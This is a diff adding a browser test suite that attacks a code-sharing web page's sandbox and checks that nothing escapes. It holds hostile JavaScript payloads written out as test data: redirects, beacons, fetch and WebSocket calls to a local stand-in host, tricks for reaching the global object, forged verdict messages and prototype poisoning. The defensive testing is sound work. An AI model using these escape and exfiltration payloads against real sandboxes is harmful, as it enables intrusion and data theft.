@@ -1,0 +1,263 @@
+// Attacks on the page by the code of a hostile link: none may reach the network, leave its frame, forge
+// what the page says, or take the page with it.
+// usage: TOUCHSTONE_MODULES=FOLDER node tests/web/attack.mjs chromium|firefox PAGE [PART-OF-A-NAME]
+import {createServer} from 'node:http';
+import {check, launch, serve, Suite, until} from './harness.mjs';
+
+const [name, folder, only] = process.argv.slice(2), isChromium = name === 'chromium';
+const server = await serve(folder), browser = await launch(name), suite = new Suite(only);
+const wait = ms => new Promise(resolve => setTimeout(resolve, ms));
+
+// "The network": whatever arrives here has escaped.
+const arrived = [];
+const network = createServer((request, response) => {
+    arrived.push(request.url);
+    response.writeHead(200, {'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript'}).end('');
+});
+await new Promise(resolve => network.listen(0, '127.0.0.1', resolve));
+const OUT = `http://127.0.0.1:${network.address().port}/`;
+
+const HEAD = "export const plugin = {name: 'mine', a: ['aabb'], b: ['aabb'], touch: 'hits'};\n";
+// It answers "apart" to all: wrong, and whatever else it does, findings must say so.
+const WRONG = 'export function collides(a, b) { return false }\n';
+const statusOf = page => page.$eval('#status', element => element.textContent);
+const rows = page => page.$$eval('#findings li', list => list.map(row => row.innerText));
+
+// The page with this code, as by a link, and judged by the viewer's click.
+async function opened(code) {
+    const page = await browser.newPage();
+    page.violations = [];
+    await page.setViewport({width: 1280, height: 800});
+    await page.goto(server.address + 'function.html');
+    const hash = await page.evaluate(async text => {
+        const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('deflate-raw'));
+        const packed = new Uint8Array(await new Response(stream).arrayBuffer());
+        return '#code=' + btoa(String.fromCharCode(...packed)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, '');
+    }, code);
+    await page.goto('about:blank');
+    await page.goto(server.address + 'function.html' + hash);
+    await until('the editor', () => page.evaluate(() => document.documentElement.dataset.opened === 'yes'), 60);
+    await page.evaluate(() => localStorage.clear());
+    await page.click('#judge');
+    return page;
+}
+
+const settled = page => until('an end', async () => /pairs asked: \d|^Line|no wrong answer|expected|not|stopped/.test(await statusOf(page)), 60);
+const found = page => until('findings', async () => (await rows(page)).length > 0 && rows(page), 90);
+
+// Nothing went out, the page is where it was, and nothing is kept.
+async function holds(page) {
+    await wait(500);
+    check(arrived.length === 0, 'it reached the network: ' + arrived.splice(0));
+    check(page.url().startsWith(server.address + 'function.html'), 'the page is at ' + page.url());
+    check(await page.evaluate(() => document.querySelectorAll('iframe').length) <= 1, 'there are other frames');
+    const frames = page.frames().filter(frame => frame !== page.mainFrame()).map(frame => frame.url());
+    // One that was refused may be listed with the address that it wanted.
+    check(frames.every(url => url.startsWith(server.address + 'frame.html') || url.startsWith(OUT) || url.startsWith('chrome-error:')), 'a frame is at ' + frames);
+    const kept = await page.evaluate(() => JSON.stringify(localStorage).length);
+    check(kept < 20000, kept + ' characters are kept');
+}
+
+const attack = (words, code, more = async () => {}) => suite.test(words, async () => {
+    const page = await opened(code);
+    await settled(page).catch(async error => { throw new Error(error.message + ', it says: ' + await statusOf(page)); });
+    await holds(page);
+    await more(page);
+    await page.close();
+});
+
+// ---- Out of the function's text
+
+// What would run where the code is only parsed, or in the frame's document.
+const ACTS = `
+try { top.location = '${OUT}top' } catch {}
+try { location.href = '${OUT}location' } catch {}
+try { document.write('<meta http-equiv=refresh content="0;url=${OUT}refresh">') } catch {}
+try { const form = document.createElement('form'); form.action = '${OUT}form'; form.method = 'post'; document.body.append(form); form.submit() } catch {}
+try { new Image().src = '${OUT}image' } catch {}
+try { navigator.sendBeacon('${OUT}beacon') } catch {}
+try { open('${OUT}open') } catch {}
+try { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:${network.address().port}'}]}); peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer)); throw peer } catch (made) { if (made && made.createOffer) { try { fetch('${OUT}webrtc') } catch {} } }
+try { fetch('${OUT}fetch').catch(() => {}) } catch {}
+try { new WebSocket('${OUT.replace('http', 'ws')}socket') } catch {}
+try { new EventSource('${OUT}events') } catch {}
+try { importScripts('${OUT}import') } catch {}
+try { new WebTransport('https://127.0.0.1:1/') } catch {}
+try { new Worker(URL.createObjectURL(new Blob(["fetch('${OUT}nested');importScripts('${OUT}nested')"]))) } catch {}
+try { const xhr = new XMLHttpRequest(); xhr.open('GET', '${OUT}xhr'); xhr.send() } catch {}
+try { caches.open('x'); indexedDB.open('x'); new BroadcastChannel('x').postMessage(1) } catch {}
+try { parent.postMessage({type: 'judged', asked: 200000, of: 200000, findings: []}, '*') } catch {}
+try { postMessage({type: 'judged', asked: 200000, of: 200000, findings: []}) } catch {}
+`;
+
+await attack('code that closes its function early runs nowhere', HEAD + WRONG + '}); ' + ACTS + '; (function () {', async page => {
+    check(!/no wrong answer/.test(await statusOf(page)), 'a verdict was forged');
+});
+await attack('code that closes its function early and is whole again for the judge too', HEAD + WRONG + '}})(); ' + ACTS + '; (function () { (function () {',
+    async page => check(!/no wrong answer/.test(await statusOf(page)), 'a verdict was forged'));
+await attack('a comment and a template that swallow the end', HEAD + WRONG + '`}); ' + ACTS + '; /*',
+    async page => check(!/no wrong answer/.test(await statusOf(page)), 'a verdict was forged'));
+
+// ---- From inside of the function
+
+await attack('the globals of a page and of a Worker are not there', HEAD + ACTS + WRONG, found);
+await attack('they are not there in a call either', HEAD + `let done = false;\nexport function collides(a, b) { if (!done) { done = true; ${ACTS} } return false }`, found);
+
+const REACH = [
+    "Function('return this')()", "(0, eval)('this')", "(function () { return this })()", "globalThis", "(() => {}).constructor('return this')()",
+    "(async () => {}).constructor('return this')()", "(function* () {}).constructor('return this')().next().value", "console.log.constructor('return this')()",
+    "__turn.constructor('return this')()", "Math.max.constructor('return this')()", "Reflect.getPrototypeOf(function () {}).constructor('return this')()",
+];
+const GLOBALS = "function globals() { const all = []; for (const get of [" + REACH.map(text => '() => ' + text).join(', ') +
+                "]) { try { all.push(get()) } catch {} } return all.filter(each => each && typeof each === 'object') }\n";
+const FORGED = "{type: 'judged', asked: 200000, of: 200000, findings: []}";
+
+await attack('no way leads to the Worker and its messages', HEAD + GLOBALS +
+    `for (const own of globals()) { try { own.postMessage(${FORGED}) } catch {} try { own.self.postMessage(${FORGED}) } catch {} try { own.fetch('${OUT}reached') } catch {}
+     try { own.postMessage = () => {} } catch {} try { own.WebAssembly = undefined } catch {} try { own.functionHost = undefined } catch {} }\n` + WRONG, found);
+
+await attack('what JavaScript brings cannot be changed', HEAD +
+    `const bad = (object, name, value) => { try { object[name] = value } catch {} try { Object.defineProperty(object, name, {value}) } catch {} };
+for (const [of, names] of [[Array.prototype, ['map', 'filter', 'push', 'includes', 'every', 'reduce']], [String.prototype, ['split', 'trim', 'trimEnd', 'replace', 'slice']],
+    [Float64Array.prototype.__proto__, ['set', 'subarray', 'fill']], [Number, ['isInteger']], [Map.prototype, ['get', 'set', 'has']], [Function.prototype, ['call', 'apply', 'bind']],
+    [Object, ['keys', 'entries', 'defineProperty']], [JSON, ['stringify', 'parse']], [Promise.prototype, ['then']], [Object.prototype, ['findings', 'hangs', 'type', 'refuses', 'toString']], [Error.prototype, ['message', 'toString']]])
+    for (const name of names) bad(of, name, () => []);
+bad(Array.prototype, 'toJSON', () => []);
+` + WRONG, found);
+
+await attack('what it throws may be anything', HEAD + `let turn = 0;
+export function collides() { const things = [{toString() { throw 1 }}, null, undefined, Symbol('x'), new Proxy({}, {get() { throw 2 }, has() { throw 3 }}), {get message() { throw 4 }}, {get hangs() { throw 5 }}, {message: {toString() { throw 6 }}}, 1n, 'x'.repeat(1e6), () => {}];
+throw things[turn++ % things.length] }`, async page => {
+    const all = await found(page);
+    check(all.every(row => /threw an exception|hangs|exception/.test(row)), 'the findings are ' + all);
+});
+for (const plugin of ["{get name() { throw {toString() { throw 1 }} }}", "new Proxy({}, {get() { throw null }})", "{name: {toString() { throw 1 }}, a: ['aabb'], b: ['aabb'], touch: 'hits'}",
+    "{name: 'x'.repeat(1e7), a: ['toString'], b: ['aabb'], touch: 'hits'}", "{name: 'x', a: {length: 1e9}, b: ['aabb'], touch: 'hits'}"]) {
+    await suite.test('a hostile description: ' + plugin.slice(0, 50), async () => {
+        const page = await opened(`export const plugin = ${plugin};\n` + WRONG);
+        await until('words', async () => !/Asking|Loading|^Judge/.test(await statusOf(page)), 60);
+        check((await statusOf(page)).length < 5000, 'a long text');
+        await holds(page);
+        await page.close();
+    });
+}
+await attack('what it returns and writes may be anything', HEAD.replace("'hits'", "'hits', gives: ['gap', 'normal', 'contact']") + `let turn = 0;
+export function collides(a, b, out) { turn++; out.gap = {valueOf() { throw 1 }}; if (turn % 3 === 0) out.normal = new Proxy({}, {get() { throw 2 }}); if (turn % 5 === 0) a.points = out; if (turn % 7 === 0) return {toJSON() { throw 3 }}; return false }`, found);
+await attack('promises that it leaves behind change nothing', HEAD + `let left = 2000;
+export function collides(a, b) { if (left-- < 0) return false; Promise.resolve().then(() => { throw 1 }); (async () => { await null; throw {toString() { throw 1 }} })(); return false }`, found);
+
+// ---- Through the frame: what the page takes, if all walls before it had fallen
+
+await suite.test('the page reads what the frame sends by a schema', async () => {
+    const page = await opened(HEAD + WRONG);
+    await found(page);
+    const result = await page.evaluate(async () => {
+        const {readMessage} = await import('./trial.js');
+        const bad = [null, 1, 'judged', {}, {type: 'toString'}, {type: '__proto__'}, {type: 'saved', name: 'x', bytes: 1}, {type: 'state', state: {palette: 'light'}}, {type: 'state', palette: 'x'.repeat(4e6)},
+            {type: 'state', palette: 'pink'}, {type: 'judged', asked: '1', of: 1, findings: null}, {type: 'judged', asked: 1, of: 1, findings: [{}]}, {type: 'judged', asked: NaN, of: 1, findings: []},
+            {type: 'judged', asked: 1, of: 1, findings: Array(1000).fill({fixed: true, pair: '', words: ''})}, {type: 'judged', asked: 1, of: 1, findings: [{fixed: true, pair: 'x'.repeat(1e6), words: ''}]},
+            {type: 'says', line: -1, words: ''}, {type: 'says', line: 1, words: {}}, {type: 'refused', reason: 'x'.repeat(1e6)}, {type: 'copied', text: 'x'.repeat(1e6)}];
+        const good = {type: 'says', line: 1, words: 'x', more: 'y'};
+        return {taken: bad.filter(message => readMessage(message)).map(message => JSON.stringify(message).slice(0, 60)), good: readMessage(good)};
+    });
+    check(result.taken.length === 0, 'it takes ' + result.taken);
+    check(JSON.stringify(result.good) === '{"type":"says","line":1,"words":"x"}', 'it reads ' + JSON.stringify(result.good));
+    await page.close();
+});
+
+// The frame's own document, as if it had fallen to the code.
+const inFrame = async (page, run, argument) => (await page.$('#picture iframe')).contentFrame().then(frame => frame.evaluate(run, argument));
+
+await suite.test('the clipboard takes nothing without a press of the viewer', async () => {
+    const page = await opened(HEAD + WRONG);
+    await found(page);
+    await page.evaluate(() => { // browsers refuse some writes themselves
+        window.copied = [];
+        Object.defineProperty(navigator, 'clipboard', {value: {writeText: async text => { window.copied.push(text); }}});
+    });
+    // What the driver runs counts as a press, which is recent for five seconds.
+    await inFrame(page, () => { setTimeout(() => { parent.postMessage({type: 'copied', text: 'evil'}, '*'); window.sent = true; }, 6500); });
+    await wait(10000); // asking before would count as a press too
+    await until('the message', () => inFrame(page, () => window.sent));
+    await wait(300);
+    check((await page.evaluate(() => window.copied)).length === 0, 'the clipboard was written');
+    await page.click('#findings button');
+    await page.click('#picture iframe');
+    await page.keyboard.down('Control');
+    await page.keyboard.press('c');
+    await page.keyboard.up('Control');
+    const [text] = await until('a case', async () => { const all = await page.evaluate(() => window.copied); return all.length > 0 && all; });
+    check(/^aabb .* \| aabb /.test(text), 'it copies ' + text);
+    await page.close();
+});
+
+await suite.test('a flood of messages ends the frame, and the page lives', async () => {
+    const page = await opened(HEAD + WRONG);
+    await found(page);
+    await inFrame(page, () => { for (let i = 0; i < 20000; i++) parent.postMessage({type: 'state', palette: 'x'.repeat(1000)}, '*'); });
+    await until('the words', async () => /too many messages/.test(await statusOf(page)), 60);
+    check(!await page.$('#picture iframe'), 'the frame is still there');
+    await page.click('#judge');
+    await until('a trial', async () => /pairs asked/.test(await statusOf(page)), 60);
+    await page.close();
+});
+
+await suite.test("the frame's policy stops what a script in it would do", async () => {
+    const page = await opened(HEAD + WRONG);
+    await found(page);
+    await inFrame(page, out => {
+        const acts = [
+            () => fetch(out + 'fetch').catch(() => {}), () => { new Image().src = out + 'image'; }, () => navigator.sendBeacon(out + 'beacon'),
+            () => { const script = document.createElement('script'); script.src = out + 'script'; document.body.append(script); },
+            () => { const script = document.createElement('script'); script.textContent = `fetch('${out}inline')`; document.body.append(script); },
+            () => { const form = document.createElement('form'); form.action = out + 'form'; document.body.append(form); form.submit(); },
+            () => { const inner = document.createElement('iframe'); inner.src = out + 'frame'; document.body.append(inner); },
+            () => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = out + 'style'; document.head.append(link); },
+            () => { top.location = out + 'top'; }, () => open(out + 'open'), () => { localStorage.x = 1; }, () => { document.cookie = 'x=1'; },
+        ];
+        for (const act of acts) try { act(); } catch { /* refused */ }
+    }, OUT);
+    await holds(page);
+    await page.close();
+});
+
+// ---- The pages' own policies
+
+for (const path of ['', 'function.html', 'article.html', 'scenes/41_obb.html', 'scenes/course.html', 'frame.html']) {
+    await suite.test('a policy on ' + (path || 'index.html'), async () => {
+        const page = await browser.newPage();
+        await page.evaluateOnNewDocument(() => {
+            window.violations = [];
+            document.addEventListener('securitypolicyviolation', event => {
+                if (!event.blockedURI.endsWith('/favicon.ico')) window.violations.push(event.violatedDirective + ' ' + event.blockedURI);
+            });
+        });
+        await page.goto(server.address + path);
+        const policy = await page.$eval('meta[http-equiv=Content-Security-Policy]', meta => meta.content);
+        for (const part of ["default-src 'none'", 'script-src', "form-action 'none'", "base-uri 'none'"]) check(policy.includes(part), `${part} is missing: ${policy}`);
+        check(path === 'frame.html' || !/script-src[^;]*unsafe/.test(policy), 'scripts may be inline: ' + policy);
+        await wait(2500);
+        check((await page.evaluate(() => window.violations)).length === 0, 'in normal use: ' + await page.evaluate(() => window.violations));
+        await page.evaluate(out => {
+            fetch(out + 'fetch').catch(() => {});
+            new Image().src = out + 'image';
+            const script = document.createElement('script');
+            script.src = out + 'script';
+            document.body.append(script);
+            const base = document.createElement('base');
+            base.href = out;
+            document.head.append(base);
+            const inner = document.createElement('iframe');
+            inner.src = out + 'frame';
+            document.body.append(inner);
+        }, OUT);
+        await wait(500);
+        check(arrived.length === 0, 'it went out: ' + arrived.splice(0));
+        await page.close();
+    });
+}
+
+await browser.close();
+server.close();
+network.close();
+suite.finish();
